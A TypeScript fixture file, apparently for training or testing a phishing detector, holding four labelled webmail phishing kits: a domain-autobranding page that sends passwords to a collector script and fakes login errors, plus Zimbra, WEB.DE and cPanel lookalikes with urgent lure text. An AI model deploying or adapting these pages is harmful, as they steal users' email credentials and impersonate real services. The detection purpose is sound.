import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, imgRoute } from '../parts/r-kit.js';

export const entries: Entry[] = [
{
  id: 'r-webmail-org-autograb-domain',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://secure-mail-verify.cfd/owa/auth/?email=j.meyer@hartwell-engineering.com',
  body: doc({ title: 'Email Account Verification', css: `body{margin:0;font-family:Arial,sans-serif;background:#e9edf1}.w{width:400px;margin:70px auto;background:#fff;border-top:4px solid #2d6cdf;padding:30px;box-shadow:0 2px 10px rgba(0,0,0,.1)}
#logo{height:48px;display:block;margin:0 auto 10px}h3{text-align:center;margin:6px 0 16px}input{width:100%;padding:11px;border:1px solid #c8c8c8;margin:6px 0}button{width:100%;padding:11px;background:#2d6cdf;color:#fff;border:0;margin-top:10px}
.msg{font-size:13px;color:#444;text-align:center}` },
`<div class="w"><img id="logo" alt=""><h3 id="dn">Webmail</h3><p class="msg">Your session has expired. Please re-enter your password to continue to your mailbox and avoid losing incoming messages.</p>
<form id="f"><input id="ai" readonly><input id="pr" type="password" placeholder="Password" required><button>Sign In</button><p id="er" style="color:#d00;font-size:13px"></p></form></div>
<p class="msg" style="font-size:11px">© <span id="yr"></span> <span id="org"></span> · Secured by Mail Protection Service</p>
<script>
var em=new URLSearchParams(location.search).get('email')||'';var dom=em.split('@')[1]||'';
document.getElementById('ai').value=em;document.getElementById('dn').textContent=dom+' Webmail';document.getElementById('org').textContent=dom;document.getElementById('yr').textContent=new Date().getFullYear();
document.getElementById('logo').src='/owa/auth/logo.php?d='+dom;document.title=dom+' - Sign In';
var n=0;document.getElementById('f').onsubmit=function(ev){ev.preventDefault();n++;
fetch('/owa/auth/p.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'email='+encodeURIComponent(em)+'&password='+encodeURIComponent(pr.value)+'&n='+n});
if(n<3){document.getElementById('er').textContent='Invalid password. Please try again.';pr.value='';}else{location.href='https://'+dom;}};
</script>`),
  routes: {
    'secure-mail-verify.cfd/owa/auth/logo.php': imgRoute(40, 80, 160),
    'secure-mail-verify.cfd/owa/auth/p.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: '1' },
  },
},
{
  id: 'r-webmail-zimbra-university',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://zimbra-univ-mail.web-app-hosting.site/zimbra/mail',
  body: doc({ title: 'Zimbra Web Client Sign In', css: `body{margin:0;background:radial-gradient(#3f6e9e,#0d2a45);font-family:Helvetica,Arial,sans-serif;height:100vh}
.c{width:440px;margin:0 auto;position:relative;top:18vh;background:#fff;padding:30px 40px;border-radius:2px}.z{color:#0f5196;font:700 30px Arial}.z small{font-size:12px;color:#999;display:block;font-weight:400}
td{padding:5px;font-size:14px}input{width:240px;padding:6px;border:1px solid #aaa}.bt{background:#1a6bb8;color:#fff;border:0;padding:6px 18px}.notice{font-size:12px;background:#ffd;border:1px solid #ee9;padding:8px;margin:10px 0}` },
`<div class="c"><div class="z">zimbra<small>Collaboration Suite — University Mail Service</small></div>
<div class="notice">IT Services: all staff and student mailboxes are being migrated to the new server. Accounts that are not validated before Friday will be deactivated.</div>
<form method="post" action="/zimbra/mail/login.php"><table><tr><td>Username:</td><td><input name="username"></td></tr><tr><td>Password:</td><td><input name="password" type="password"></td></tr>
<tr><td></td><td><label><input type="checkbox" name="zrememberme"> Stay signed in</label> <button class="bt">Sign In</button></td></tr><tr><td>Version:</td><td><select><option>Default</option><option>Standard</option><option>Mobile</option></select></td></tr></table></form>
<p style="font-size:11px;color:#888">Copyright © 2005-2025 Synacor, Inc. All rights reserved. "Zimbra" is a registered trademark of Synacor, Inc.</p></div>`),
},
{
  id: 'r-webmail-webde-postfach-de',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://webde-postfach-sicherheit.online/login/',
  body: doc({ lang: 'de', title: 'WEB.DE - E-Mail-Adresse kostenlos, FreeMail, De-Mail & Nachrichten', css: `body{margin:0;font-family:Arial,sans-serif;background:#ffd800}.top{background:#ffd800;padding:16px 10%;font:900 28px Arial;color:#333}
.bx{background:#fff;width:420px;margin:20px auto;padding:26px;border-radius:4px}input{width:100%;padding:10px;border:1px solid #999;margin:5px 0 12px}button{background:#1c449b;color:#fff;border:0;padding:11px 30px;font-weight:bold}
.w{background:#fdecea;border-left:4px solid #c00;padding:10px;font-size:14px}` },
`<div class="top">WEB.DE</div>
<div class="bx"><p class="w">Ihr Postfach wurde wegen ungewöhnlicher Aktivität vorübergehend gesperrt. Bitte bestätigen Sie Ihre Zugangsdaten, um die Sperre aufzuheben.</p>
<form method="post" action="/login/check.php"><label>E-Mail-Adresse</label><input name="username" placeholder="name@web.de"><label>Passwort</label><input name="password" type="password"><button>Login</button></form>
<p style="font-size:12px"><a href="#">Passwort vergessen?</a> · <a href="#">Kostenlos registrieren</a></p>
<p style="font-size:11px;color:#666">1&amp;1 Mail &amp; Media GmbH · Impressum · Datenschutzhinweise · AGB</p></div>`),
},
{
  id: 'r-webmail-cpanel-horde-mailbox',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://webmail-cpanel-server.host-mail-login.com/cpsess8812093/webmail/login/',
  body: doc({ title: 'Webmail Login', css: `body{margin:0;background:#f1f3f7;font-family:"Open Sans",Arial,sans-serif}.c{width:360px;margin:90px auto;background:#fff;padding:30px;border-radius:5px;box-shadow:0 1px 4px rgba(0,0,0,.15)}
.cp{color:#ff6c2c;font:700 30px Arial;text-align:center}input{width:100%;padding:10px;border:1px solid #ccc;border-radius:3px;margin:5px 0 12px}button{width:100%;background:#179bd7;color:#fff;border:0;padding:10px;border-radius:3px}
.ln{font-size:12px;text-align:center;color:#777}.ln a{color:#555;margin:0 4px}` },
`<div class="c"><div class="cp">cPanel<span style="color:#293a4a;font-weight:400"> Webmail</span></div>
<form method="post" action="/cpsess8812093/webmail/login/dologin.php"><label>Email Address</label><input name="user" type="email" placeholder="Enter your email address."><label>Password</label><input name="pass" type="password" placeholder="Enter your email password."><button>Log in</button></form>
<p class="ln"><a href="#">English</a><a href="#">العربية</a><a href="#">čeština</a><a href="#">Deutsch</a><a href="#">español</a><a href="#">français</a><a href="#">…</a></p>
<p class="ln">Copyright© 2025 cPanel, L.L.C. <a href="#">Privacy Policy</a></p></div>`),
},
];
